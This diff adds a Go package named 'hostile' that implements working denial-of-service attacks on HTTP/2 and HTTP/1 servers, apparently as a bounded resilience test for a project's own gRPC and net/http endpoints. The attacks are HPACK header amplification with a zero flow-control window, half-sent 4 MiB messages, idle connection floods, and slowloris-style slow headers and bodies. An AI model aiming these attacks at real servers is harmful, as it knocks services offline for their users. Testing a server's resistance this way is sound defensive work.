@@ -1,0 +1,146 @@
+package hostile
+
+import (
+	"bytes"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"time"
+
+	"golang.org/x/net/http2"
+)
+
+var (
+	onlyHTTP2 = []string{"h2"}
+	both      = []string{"h2", "http/1.1"}
+	onlyHTTP1 = []string{"http/1.1"}
+)
+
+// All returns every attack. Each ends by itself within a minute.
+func All() []Attack {
+	return []Attack{
+		{"headers to gRPC", 64, onlyHTTP2, headers(gRPC, 512, 30_000)},
+		{"headers to net/http", 64, both, headers(rest, 250, 30_000)},
+		{"headers within the limit to gRPC", 64, onlyHTTP2, headers(gRPC, 512, 400)},
+		{"headers within the limit to net/http", 64, both, headers(rest, 250, 400)},
+		{"partial messages to gRPC", 16, onlyHTTP2, partial(512, 4<<20)},
+		{"partial messages to net/http", 16, both, partial(250, 4<<20)},
+		{"idle connections of gRPC", 1000, onlyHTTP2, idle},
+		{"idle connections of net/http", 1000, both, idle},
+		{"idle connections of HTTP/1", 1000, onlyHTTP1, idleHTTP1},
+		{"slow headers of HTTP/2", 500, onlyHTTP2, slowHeaders},
+		{"slow bodies of HTTP/1", 500, onlyHTTP1, slowBodyHTTP1},
+		{"slow bodies of HTTP/2", 500, both, slowBody},
+	}
+}
+
+// headers repeats a field of two letters, which takes one byte on the wire, on each stream.
+// The client has no room for answers, so that the server cannot be done with them.
+func headers(to place, streams, fields int) func(context.Context, net.Conn) error {
+	const (
+		remember = "\x40\x01a\x01b" // a: b, with a place in the table
+		again    = 62 | 0x80        // the youngest entry of the table
+	)
+	more := append([]byte(remember), bytes.Repeat([]byte{again}, fields-1)...)
+	return func(ctx context.Context, conn net.Conn) error {
+		c, err := greet(ctx, conn, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		if err != nil {
+			return err
+		}
+		for i := range streams {
+			if err := c.request(uint32(2*i+1), to, more); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+// partial sends a message but for its last byte, on each stream.
+func partial(streams, size int) func(context.Context, net.Conn) error {
+	message := make([]byte, 5+size-1)
+	binary.BigEndian.PutUint32(message[1:], uint32(size))
+	return func(ctx context.Context, conn net.Conn) error {
+		c, err := greet(ctx, conn)
+		if err != nil {
+			return err
+		}
+		for i := range streams {
+			stream := uint32(2*i + 1)
+			if err := c.request(stream, gRPC, nil); err != nil {
+				return err
+			}
+			if err := c.send(stream, message); err != nil {
+				return err
+			}
+		}
+		return nil
+	}
+}
+
+func idle(ctx context.Context, conn net.Conn) error {
+	_, err := greet(ctx, conn)
+	return err
+}
+
+func idleHTTP1(context.Context, net.Conn) error { return nil }
+
+const (
+	trickle = 250 * time.Millisecond
+	// trickled bounds the bytes of a slow attack: a minute of them.
+	trickled = 240
+)
+
+// drip writes a byte at a time.
+func drip(ctx context.Context, write func([]byte) error) error {
+	tick := time.NewTicker(trickle)
+	defer tick.Stop()
+	for range trickled {
+		select {
+		case <-tick.C:
+		case <-ctx.Done():
+			return ctx.Err()
+		}
+		if err := write([]byte{'x'}); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// slowHeaders begins a frame of headers and takes its time.
+func slowHeaders(ctx context.Context, conn net.Conn) error {
+	if _, err := greet(ctx, conn); err != nil {
+		return err
+	}
+	if _, err := io.WriteString(conn, "\x00\x3f\xff\x01\x00\x00\x00\x00\x01"); err != nil {
+		return err
+	}
+	return drip(ctx, func(b []byte) error {
+		_, err := conn.Write(b)
+		return err
+	})
+}
+
+func slowBodyHTTP1(ctx context.Context, conn net.Conn) error {
+	if _, err := fmt.Fprintf(conn, "POST /v1/manifests HTTP/1.1\r\nHost: node\r\nContent-Length: %d\r\n\r\n", 4<<20); err != nil {
+		return err
+	}
+	return drip(ctx, func(b []byte) error {
+		_, err := conn.Write(b)
+		return err
+	})
+}
+
+func slowBody(ctx context.Context, conn net.Conn) error {
+	c, err := greet(ctx, conn)
+	if err != nil {
+		return err
+	}
+	if err := c.request(1, rest, nil); err != nil {
+		return err
+	}
+	return drip(ctx, func(b []byte) error { return c.send(1, b) })
+}
